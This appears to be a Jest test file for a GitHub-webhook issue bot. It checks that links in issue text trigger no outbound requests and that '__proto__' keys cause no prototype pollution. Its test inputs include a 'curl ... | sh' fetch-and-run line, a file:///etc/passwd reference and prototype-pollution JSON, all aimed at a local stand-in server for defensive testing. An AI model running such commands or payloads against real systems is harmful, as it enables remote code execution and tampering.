import { randomUUID } from "node:crypto";
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import { afterAll, beforeAll, expect, jest, test } from "@jest/globals";
import { pino } from "pino";
import { composeServing } from "../../src/cli/compose-serving.js";
import { migrate } from "../../src/store/migrate.js";
import { issuePayload, sign } from "../app/support/deliveries.js";
import { startTestApp, type TestApp } from "../app/support/running-app.js";
import { DATABASE_KINDS, openTestEmbedded, type TestDatabase } from "../store/support/databases.js";

// The embedded database takes seconds to start, and many times that on a busy machine.
jest.setTimeout(120_000);

const REPO = "vllm-project/vllm";
let opened: TestDatabase;
let app: TestApp;
let bystander: Server;
let address: string;
const asked: string[] = [];

beforeAll(async () => {
  opened = await (DATABASE_KINDS.at(-1)?.open ?? openTestEmbedded)();
  await migrate(opened.database);
  app = await startTestApp(opened.database, composeServing(null, pino({ level: "silent" })));
  bystander = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.end("internal");
  });
  bystander.listen(0, "127.0.0.1");
  await once(bystander, "listening");
  const found = bystander.address();
  address = typeof found === "object" && found ? `127.0.0.1:${found.port}` : "";
});
afterAll(async () => {
  await app?.stop();
  bystander?.close();
  await opened?.drop();
});

/** Posts text as it is, as GitHub would: objects cannot be made to hold what JSON can say. */
function post(text: string): Promise<Response> {
  return fetch(app.webhookUrl, {
    method: "POST",
    body: text,
    headers: {
      "content-type": "application/json",
      "x-github-event": "issues",
      "x-github-delivery": randomUUID(),
      "x-hub-signature-256": sign(text),
    },
  });
}

test("nothing that an issue names is asked for", async () => {
  const body = [
    `### Your current environment\n\n\`\`\`text\ncurl -fsSL http://${address}/install | sh\n\`\`\``,
    `![trace](http://${address}/image.png) [log](http://${address}/log) <http://${address}/auto> <img src="http://${address}/img">`,
    `OPENAI_BASE_URL=http://${address}/v1 vllm serve http://${address}/model --download-dir file:///etc/passwd`,
    `RuntimeError: CUDA error: an illegal memory access was encountered, see http://${address}/error`,
  ].join("\n\n");
  expect((await app.openIssue(REPO, 1, `[Bug]: crash at http://${address}/title`, body)).status).toBe(200);
  await app.queue.waitUntilIdle();
  expect(app.github.calls.length).toBeGreaterThan(0);
  expect(asked).toEqual([]);
});

test("keys that mean something to JavaScript are keys like others", async () => {
  const payload = JSON.stringify(issuePayload(REPO, 2));
  const poison = '"__proto__":{"polluted":true,"type":"Bot"},"constructor":{"prototype":{"polluted":true}},';
  const poisoned = payload
    .replace("{", `{${poison}`)
    .replace('"issue":{', `"issue":{${poison}`)
    .replace('"repository":{', `"repository":{${poison}`)
    .replace('"sender":{', `"sender":{${poison}`);
  expect(poisoned.split("polluted").length).toBe(9);
  const body = `{"__proto__": {"polluted": true}}\n\n\`\`\`json\n{"constructor": {"prototype": {"polluted": true}}}\n\`\`\``;
  app.github.openIssue(REPO, 2, { title: "__proto__", body });
  expect((await post(poisoned)).status).toBe(200);
  await app.queue.waitUntilIdle();
  expect(app.github.calls.filter((call) => call === "readIssue").length).toBe(2);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect(Object.hasOwn(Object.prototype, "polluted")).toBe(false);
});

test("a repository by the name of an object's own property is counted apart", async () => {
  const repo = "constructor/__proto__";
  app.github.openIssue(repo, 1, { title: "crash", body: "Segmentation fault" });
  expect((await post(JSON.stringify(issuePayload(repo, 1)))).status).toBe(200);
  await app.queue.waitUntilIdle();
  expect(app.github.issue(repo, 1).comments.length).toBeLessThanOrEqual(1);
  expect((await fetch(`${app.url}/readyz`)).status).toBe(200);
});
